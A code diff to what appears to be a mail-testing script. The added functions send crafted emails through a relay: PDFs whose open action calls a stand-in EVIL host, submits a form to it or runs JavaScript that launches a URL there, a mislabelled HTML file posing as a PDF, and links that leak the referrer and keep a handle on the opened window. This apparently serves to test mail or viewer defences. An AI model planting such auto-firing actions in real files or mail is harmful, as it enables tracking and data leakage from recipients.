@@ -88,6 +88,43 @@ h1{font-size:24px}.b{background:#8a4b12;color:#fff;padding:10px 18px;border-radi
     submit(message, ["alice@example.org", "books@example.org", "audit@example.org"], "bounces+20817@northwind.example")
 
 
+def document(action=""):
+    """A PDF of one page, a link on it, and perhaps something to do when it is opened."""
+    words = b"BT /F1 36 Tf 60 700 Td (Invoice 20817) Tj ET 1 0 0 rg 60 400 400 200 re f"
+    objects = [
+        f"<</Type/Catalog/Pages 2 0 R{action}>>".encode(),
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[6 0 R]>>",
+        b"<</Length %d>>stream\n%s\nendstream" % (len(words), words),
+        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+        f"<</Type/Annot/Subtype/Link/Rect[0 0 595 390]/A<</S/URI/URI({EVIL}/click)>>>>".encode(),
+    ]
+    text, places = b"%PDF-1.7\n", []
+    for number, one in enumerate(objects, 1):
+        places.append(len(text))
+        text += b"%d 0 obj\n%s\nendobj\n" % (number, one)
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(text))
+    return text + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end
+
+
+def files():
+    message = letter("Four documents", "Dora <dora@example.org>", "bob@example.net", "Grüße, as attached.\n" + "ä" * 40 + "\n")
+    opens = f"/OpenAction<</S/URI/URI({EVIL}/opened)/Next<</S/SubmitForm/F<</FS/URL/F({EVIL}/form)>>>>>>"
+    script = f"/OpenAction<</S/JavaScript/JS(app.alert\\('hacked'\\);app.launchURL\\('{EVIL}/js'\\))>>"
+    for name, action in (("invoice.pdf", ""), ("opens.pdf", opens), ("script.pdf", script)):
+        message.add_attachment(document(action), maintype="application", subtype="pdf", filename=name)
+    message.add_attachment(b"<html>", maintype="application", subtype="pdf", filename="page.pdf")
+    relay([message])
+
+
+def outward():
+    """Links that would say where they stand, and keep a hand on the window that they open."""
+    html = f"""<html><head><meta name=referrer content=unsafe-url></head><body>
+<a id=plain href="{EVIL}/plain">a</a> <a id=opener rel=opener target=other referrerpolicy=unsafe-url href="{EVIL}/opener">b</a></body></html>"""
+    relay([letter("Links that lead away", "Eve <eve@example.org>", "bob@example.net", "x", html)])
+
+
 def code():
     submit(
         letter(
@@ -117,6 +154,11 @@ def refused():
 def bare():
     dialogue = [b"EHLO lf.example\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.net>\r\n", b"DATA\r\n"]
     say(RELAY, *dialogue, b"Subject: x\r\n\r\nhi\nthere\r\n.\r\n", b"QUIT\r\n")
+
+
+def busy():
+    dialogue = [b"EHLO busy.example\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.net>\r\n", b"QUIT\r\n"]
+    say(RELAY, *dialogue)
 
 
 def lost():
